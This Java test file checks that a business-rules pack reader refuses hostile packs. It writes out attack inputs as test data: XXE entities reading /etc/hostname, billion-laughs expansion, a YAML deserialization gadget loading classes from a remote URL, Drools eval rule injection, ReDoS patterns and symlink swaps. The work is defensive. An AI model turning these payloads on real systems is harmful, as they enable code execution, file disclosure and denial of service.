package org.plainsight.rules.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.plainsight.rules.language.Fault;
import org.plainsight.rules.pack.Reading;

/** Packs made to do harm: each is refused with a reason, within two seconds of work, and none of its code runs. */
class AttackTest {

    private static final String MARKER = "plainsight.attacked";
    private static final Duration AT_MOST = Duration.ofSeconds(2);
    private static final String CELL = "<text>&gt;= 10</text>";
    private static final String LITERAL = "<text>if Posting rows = null then 0 else min(Posting rows, 8)</text>";
    private static final String JAVA =
            "external { java: { class: \"java.lang.System\", method signature: \"setProperty(java.lang.String,java.lang.String)\" } }";

    @TempDir
    private Path folder;

    private PackCopy pack;

    @BeforeEach
    void copy() {
        System.clearProperty(MARKER);
        pack = new PackCopy(folder.resolve("pack"));
    }

    @AfterEach
    void no_code_ran() {
        assertThat(System.getProperty(MARKER)).isNull();
    }

    /** Reads in a thread that is given up on after a while; the work itself, whatever else the machine does, takes two seconds. */
    private Reading.Refused refused() {
        return assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            var threads = ManagementFactory.getThreadMXBean();
            long before = threads.getCurrentThreadCpuTime();
            var reading = pack.read();
            assertThat(Duration.ofNanos(threads.getCurrentThreadCpuTime() - before))
                    .isLessThan(AT_MOST);
            assertThat(reading).isInstanceOf(Reading.Refused.class);
            return (Reading.Refused) reading;
        });
    }

    private void isRefused(Fault.Weight weight, String because) {
        var refused = refused();
        assertThat(refused.faults())
                .as("%s", refused.faults())
                .anyMatch(f -> f.weight() == weight && f.toString().contains(because));
        assertThat(refused.faults()).allSatisfy(f -> {
            assertThat(f.problem()).isNotBlank();
            assertThat(f.remedy()).isNotBlank();
            assertThat(f.place().toString()).isNotBlank();
            assertThat(f.toString()).hasSizeLessThan(1_000).doesNotContain("\n", "Exception");
        });
    }

    private void inACell(String feel) {
        pack.change("adverts.dmn", CELL, "<text>" + DmnText.escaped(feel) + "</text>");
    }

    private void inALiteral(String feel) {
        pack.change("adverts.dmn", LITERAL, "<text>" + DmnText.escaped(feel) + "</text>");
    }

    private void beforeTheDecisions(String xml) {
        pack.change("adverts.dmn", "<decision id=\"d-posting-rows\"", xml + "<decision id=\"d-posting-rows\"");
    }

    @Test
    void an_external_function_as_business_knowledge_is_refused() {
        beforeTheDecisions("""
                <businessKnowledgeModel id="b" name="b"><variable name="b"/><encapsulatedLogic kind="Java"><formalParameter name="a"/>
                <context><contextEntry><variable name="class"/><literalExpression><text>"java.lang.System"</text></literalExpression></contextEntry>
                <contextEntry><variable name="method signature"/><literalExpression><text>"setProperty(java.lang.String,java.lang.String)"</text>
                </literalExpression></contextEntry></context></encapsulatedLogic></businessKnowledgeModel>
                """);
        isRefused(Fault.Weight.FAULT, "`businessKnowledgeModel` is not read: it can run code");
    }

    @Test
    void an_external_function_in_a_literal_is_refused() {
        inALiteral("(function(a, b) %s)(\"%s\", \"x\")".formatted(JAVA, MARKER));
        isRefused(Fault.Weight.FAULT, "can run code");
    }

    @Test
    void an_external_function_in_a_cell_is_refused() {
        inACell("{f: function(a, b) %s, r: f(\"%s\", \"x\")}.r = \"x\"".formatted(JAVA, MARKER));
        isRefused(Fault.Weight.FAULT, "row `posting-1`, column `accountAdverts`");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "boxed context",
                "invocation",
                "relation",
                "conditional",
                "functionDefinition",
                "for",
                "every",
                "filter",
                "list"
            })
    void other_boxed_expressions_are_refused(String element) {
        var name = element.replace("boxed ", "");
        pack.change(
                "adverts.dmn",
                "<literalExpression id=\"le-posting\">" + LITERAL + "</literalExpression>",
                "<" + name + " id=\"x\"><literalExpression>" + LITERAL + "</literalExpression></" + name + ">");
        isRefused(Fault.Weight.FAULT, "`" + name + "` is not read");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"abc\".class.name = \"x\"",
                "accountAdverts.class",
                "? .class.name != null",
                "> Posting rows.class"
            })
    void a_property_is_not_read_in_a_cell(String feel) {
        inACell(feel);
        isRefused(Fault.Weight.FAULT, feel.startsWith("?") ? "`?` is not read" : "reads a property");
    }

    @Test
    void a_property_is_not_read_in_a_literal() {
        inALiteral("Posting rows.class.name");
        isRefused(Fault.Weight.FAULT, "`.class` reads a property");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "count(for i in 1..1000000000 return i)",
                "sum(for i in 1..1000000, j in 1..1000000 return i * j)",
                "if some i in 1..1000000000 satisfies i < 0 then 1 else 0",
                "if every i in 1..1000000000 satisfies i > 0 then 1 else 0",
                "9 ** 999999999"
            })
    void a_loop_is_refused_before_it_begins(String feel) {
        inALiteral(feel);
        isRefused(Fault.Weight.FAULT, "adverts.dmn, table `Posting`");
    }

    @Test
    void a_loop_in_a_cell_or_a_column_is_refused() {
        inACell("count(for i in 1..1000000000 return i) > 3");
        pack.change(
                "adverts.dmn", "<text>hoursPerDay</text>", "<text>some x in 1..1000000000 satisfies x &lt; 0</text>");
        isRefused(Fault.Weight.FAULT, "`for` may run without end");
        isRefused(Fault.Weight.FAULT, "only go through a fact that is a list");
    }

    @Test
    void a_pattern_that_never_ends_is_refused() {
        inACell("matches(\"" + "a".repeat(40) + "!\", \"^(a+)+$\")");
        isRefused(Fault.Weight.FAULT, "patterns, which can run without end");
    }

    @Test
    void twenty_thousand_brackets_are_refused() {
        inALiteral("(".repeat(20_000) + "1" + ")".repeat(20_000));
        isRefused(Fault.Weight.UNSAFE, "too long");
    }

    @Test
    void brackets_within_the_length_are_refused_by_their_depth() {
        inALiteral("(".repeat(900) + "1" + ")".repeat(900));
        isRefused(Fault.Weight.UNSAFE, "nested more than 40 deep");
    }

    @Test
    void a_decision_that_requires_itself_is_refused() {
        pack.change(
                "adverts.dmn",
                "<requiredDecision href=\"#d-posting-rows\"/>",
                "<requiredDecision href=\"#d-posting\"/>");
        isRefused(Fault.Weight.FAULT, "in a circle: Posting -> Posting");
    }

    @Test
    void decisions_that_require_each_other_are_refused_with_their_circle() {
        pack.change(
                "adverts.dmn",
                "<informationRequirement id=\"ir-posting-rows-i-accountAdverts\">",
                "<informationRequirement><requiredDecision href=\"#d-outcome\"/></informationRequirement>"
                        + "<informationRequirement id=\"ir-posting-rows-i-accountAdverts\">");
        isRefused(Fault.Weight.FAULT, "in a circle: ");
    }

    @Test
    void a_remote_import_is_refused() {
        beforeTheDecisions(
                "<import name=\"x\" namespace=\"https://example.org/x\" locationURI=\"http://192.0.2.1/x.dmn\" importType=\"https://www.omg.org/spec/DMN/20191111/MODEL/\"/>");
        isRefused(Fault.Weight.FAULT, "`import` is not read: it brings in other files");
    }

    @Test
    void a_schema_that_would_be_fetched_is_refused() {
        pack.change(
                "adverts.dmn",
                "id=\"def-adverts\"",
                "id=\"def-adverts\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a http://192.0.2.1/a.xsd\"");
        isRefused(Fault.Weight.FAULT, "of another language");
    }

    @Test
    void another_expression_language_is_refused() {
        pack.change(
                "adverts.dmn",
                "<literalExpression id=\"le-posting\">",
                "<literalExpression id=\"le-posting\" expressionLanguage=\"http://www.jcp.org/en/jsr/detail?id=223\">");
        isRefused(Fault.Weight.FAULT, "is not FEEL");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>",
                "<!DOCTYPE d SYSTEM \"http://192.0.2.1/d.dtd\">",
                "<!doctype d>",
                "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
            })
    void a_document_type_is_refused_before_anything_is_read(String doctype) {
        pack.change("adverts.dmn", "<definitions", doctype + "<definitions");
        isRefused(Fault.Weight.UNSAFE, "a DOCTYPE");
    }

    @Test
    void a_document_type_does_not_hide_in_another_encoding() {
        var text =
                pack.text("adverts.dmn").replace("UTF-8", "UTF-16").replace("<definitions", "<!DOCTYPE d><definitions");
        pack.write("adverts.dmn", text.getBytes(StandardCharsets.UTF_16));
        isRefused(Fault.Weight.FAULT, "not UTF-8");
        pack.write("adverts.dmn", text.replace("<!DOCTYPE d>", "").getBytes(StandardCharsets.UTF_8));
        isRefused(Fault.Weight.FAULT, "says it is not UTF-8");
    }

    @Test
    void an_unknown_entity_or_an_instruction_is_refused() {
        pack.change("adverts.dmn", CELL, "<text>&bomb;</text>");
        pack.change("networks.dmn", "<definitions", "<?xml-stylesheet href=\"http://192.0.2.1/x.xsl\"?><definitions");
        isRefused(Fault.Weight.FAULT, "not well-formed XML");
        isRefused(Fault.Weight.UNSAFE, "processing instruction");
    }

    @Test
    void xml_that_is_too_deep_or_too_wide_is_refused() {
        beforeTheDecisions("<a>".repeat(50_000) + "</a>".repeat(50_000));
        isRefused(Fault.Weight.UNSAFE, "nested more than 40 deep");
        pack.write("adverts.dmn", new PackCopy(folder.resolve("other")).text("adverts.dmn"));
        beforeTheDecisions("<a/>".repeat(150_000));
        isRefused(Fault.Weight.UNSAFE, "more than 120000 elements");
    }

    @Test
    void too_many_rows_are_refused() {
        var row = "<rule id=\"r%d\"><inputEntry><text>-</text></inputEntry><inputEntry><text>-</text></inputEntry>"
                + "<outputEntry><text>1</text></outputEntry></rule>";
        var rows = new StringBuilder();
        for (int i = 0; i < 2_001; i++) rows.append(row.formatted(i));
        pack.change("adverts.dmn", "<rule id=\"posting-1\">", rows + "<rule id=\"posting-1\">");
        isRefused(Fault.Weight.UNSAFE, "2003 rows are more than 2000");
    }

    @Test
    void a_pack_that_is_wrong_everywhere_is_given_up_in_time() {
        var names = new StringBuilder();
        var wants = new StringBuilder();
        for (int i = 0; i < 450; i++) {
            var name = "a long name that many others begin with too " + i;
            names.append("<inputData id=\"x%d\" name=\"%s\"><variable name=\"%s\" typeRef=\"number\"/></inputData>"
                    .formatted(i, name, name));
            wants.append(DmnText.required("Input", "x" + i));
        }
        var columns =
                "<input><inputExpression><text>a long name that many others begin with two</text></inputExpression></input>"
                        .repeat(90);
        for (int i = 0; i < 12; i++)
            names.append("<decision id=\"y%d\" name=\"y %d\"><variable name=\"y %d\" typeRef=\"number\"/>"
                            .formatted(i, i, i))
                    .append(wants)
                    .append("<decisionTable>")
                    .append(columns)
                    .append(
                            "<output name=\"o\" typeRef=\"number\"/><rule id=\"z%d\"><outputEntry><text>1</text></outputEntry></rule></decisionTable></decision>"
                                    .formatted(i));
        beforeTheDecisions(names.toString());
        isRefused(Fault.Weight.FAULT, "there are more than 500 faults");
    }

    @Test
    void a_file_or_a_pack_that_is_too_large_is_refused() throws IOException {
        Files.write(pack.path("CHANGELOG.md"), new byte[3 << 20]);
        isRefused(Fault.Weight.UNSAFE, "larger than 2 MB");
        pack.write("CHANGELOG.md", "");
        for (int i = 0; i < 6; i++)
            Files.write(pack.path("cases/c" + i + ".yaml"), "# ".repeat(900_000).getBytes(StandardCharsets.UTF_8));
        isRefused(Fault.Weight.UNSAFE, "larger than 8 MB");
    }

    @Test
    void a_huge_file_is_not_read_to_its_end() throws IOException {
        try (var file = new java.io.RandomAccessFile(pack.path("lexicon.csv").toFile(), "rw")) {
            file.setLength(20L << 30);
        }
        isRefused(Fault.Weight.UNSAFE, "larger than 2 MB");
    }

    @Test
    void links_are_refused_wherever_they_lead() throws IOException {
        var outside = Files.writeString(folder.resolve("outside"), "secret");
        Files.delete(pack.path("CHANGELOG.md"));
        Files.createSymbolicLink(pack.path("CHANGELOG.md"), outside);
        Files.createSymbolicLink(pack.path("cases/more.yaml"), pack.path("cases/adverts.yaml"));
        isRefused(Fault.Weight.UNSAFE, "CHANGELOG.md: a link could lead out of the folder");
        isRefused(Fault.Weight.UNSAFE, "cases/more.yaml: a link could lead out of the folder");
        assertThat(refused().faults().toString()).doesNotContain("secret");
    }

    @Test
    void a_folder_of_cases_that_is_a_link_is_refused() throws IOException {
        Files.move(pack.path("cases"), folder.resolve("cases"));
        Files.createSymbolicLink(pack.path("cases"), folder.resolve("cases"));
        isRefused(Fault.Weight.UNSAFE, "not a folder of its own");
    }

    @Test
    void a_folder_of_cases_that_is_swapped_for_a_link_while_the_pack_is_read_leads_nowhere() throws IOException {
        var outside = Files.createDirectory(folder.resolve("outside"));
        Files.writeString(outside.resolve("adverts.yaml"), "secret");
        var faults = new ArrayList<Fault>();

        var contents = new FolderGuard(pack.folder(), faults)
                .contents(() -> swap(() -> {
                    Files.move(pack.path("cases"), folder.resolve("cases-before"));
                    Files.createSymbolicLink(pack.path("cases"), outside);
                }));

        assertThat(contents.values()).noneMatch(bytes -> new String(bytes, StandardCharsets.UTF_8).contains("secret"));
        assertThat(faults).singleElement().satisfies(fault -> {
            assertThat(fault.weight()).isEqualTo(Fault.Weight.UNSAFE);
            assertThat(fault.toString()).contains("`cases` is not a folder of its own");
        });
    }

    @Test
    void a_file_that_is_swapped_for_a_link_while_the_pack_is_read_is_refused() throws IOException {
        var outside = Files.writeString(folder.resolve("outside"), "secret");
        var faults = new ArrayList<Fault>();

        var contents = new FolderGuard(pack.folder(), faults)
                .contents(() -> swap(() -> {
                    Files.delete(pack.path("lexicon.csv"));
                    Files.createSymbolicLink(pack.path("lexicon.csv"), outside);
                }));

        assertThat(contents).doesNotContainKey("lexicon.csv");
        assertThat(faults).singleElement().satisfies(fault -> {
            assertThat(fault.weight()).isEqualTo(Fault.Weight.UNSAFE);
            assertThat(fault.toString()).contains("lexicon.csv: a link could lead out of the folder");
        });
    }

    /** What an attacker does to files. */
    private interface Swap {
        void run() throws IOException;
    }

    private static void swap(Swap swap) {
        try {
            swap.run();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".hidden",
                "adverts.dmn.bak",
                "extra.drl",
                "Pack.yaml",
                "cases/.hidden.yaml",
                "cases/x.yml",
                "cases/a b.yaml",
                "cases/-x.yaml",
                "cases/..yaml"
            })
    void files_that_a_pack_does_not_have_are_refused(String file) {
        pack.write(file, "x");
        isRefused(Fault.Weight.UNSAFE, file + ": ");
    }

    @Test
    void names_that_differ_by_letter_case_alone_are_refused() {
        pack.write("cases/ADVERTS.yaml", "");
        isRefused(Fault.Weight.UNSAFE, "by letter case alone");
    }

    @Test
    void folders_and_special_files_are_refused() throws Exception {
        Files.createDirectory(pack.path("cases/deeper"));
        Files.createDirectory(pack.path("lib"));
        Files.delete(pack.path("lexicon.csv"));
        assertThat(new ProcessBuilder("mkfifo", pack.path("lexicon.csv").toString())
                        .start()
                        .waitFor())
                .isZero();
        isRefused(Fault.Weight.UNSAFE, "lib: a pack has no such folder");
        isRefused(Fault.Weight.UNSAFE, "cases/deeper: a pack has no such folder");
        isRefused(Fault.Weight.UNSAFE, "lexicon.csv: this is not a plain file");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://192.0.2.1/\"]]]]",
                "title: !!str x",
                "!!map {}",
                "title: ! x",
                "title: &a x",
                "title: *a",
                "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
                "<<: *a"
            })
    void tags_anchors_and_aliases_are_refused(String yaml) {
        pack.write("pack.yaml", yaml + "\n");
        isRefused(Fault.Weight.UNSAFE, yaml.contains("!") ? "a tag (`" : "is not read");
    }

    @Test
    void yaml_that_is_too_deep_is_refused() {
        pack.write("cases/adverts.yaml", "[".repeat(100_000));
        isRefused(Fault.Weight.UNSAFE, "nested more than");
        pack.write("cases/adverts.yaml", "- ".repeat(100_000));
        isRefused(Fault.Weight.UNSAFE, "nested more than");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "> $a : Object() eval(System.setProperty(\"plainsight.attacked\", \"x\") == null)",
                "  > $a : Object()",
                "when the same phone appears in adverts placed more than 80) eval(1==1 km apart within 12 hours",
                "when the same phone appears in adverts placed more than 80 km apart within 12 hours eval(true)",
                "when eval(System.setProperty(\"plainsight.attacked\", \"x\") == null)",
                "end rule \"x\" when then System.setProperty(\"plainsight.attacked\", \"x\");",
                "import java.lang.System",
                "then note it as \"x\"); System.setProperty(\"plainsight.attacked\", \"x\"); (\"\"",
                "pattern \"x\" when\" salience 9"
            })
    void sentences_that_smuggle_rules_are_refused(String line) {
        pack.write("patterns.sentences", "pattern \"A\"\n" + line + "\nthen note it as \"a\"\n");
        isRefused(Fault.Weight.FAULT, "patterns.sentences:2");
    }

    @Test
    void nothing_hides_inside_an_extension_or_a_picture() {
        beforeTheDecisions(
                "<extensionElements><x xmlns=\"urn:x\"><decision xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\"/></x></extensionElements>");
        isRefused(Fault.Weight.FAULT, "`decision` hides inside an extension");
    }

    @Test
    void nothing_of_another_language_stands_beside_the_model() {
        beforeTheDecisions("<script xmlns=\"urn:x\">boom</script>");
        isRefused(Fault.Weight.FAULT, "`script` is of another language");
    }

    @Test
    void what_is_not_harmful_is_read() {
        Consumer<Reading> read = reading -> assertThat(reading).isInstanceOf(Reading.Read.class);
        read.accept(pack.read());
        beforeTheDecisions("<extensionElements><x xmlns=\"urn:x\"><y>z</y></x></extensionElements><!-- a comment -->");
        read.accept(pack.read());
    }
}
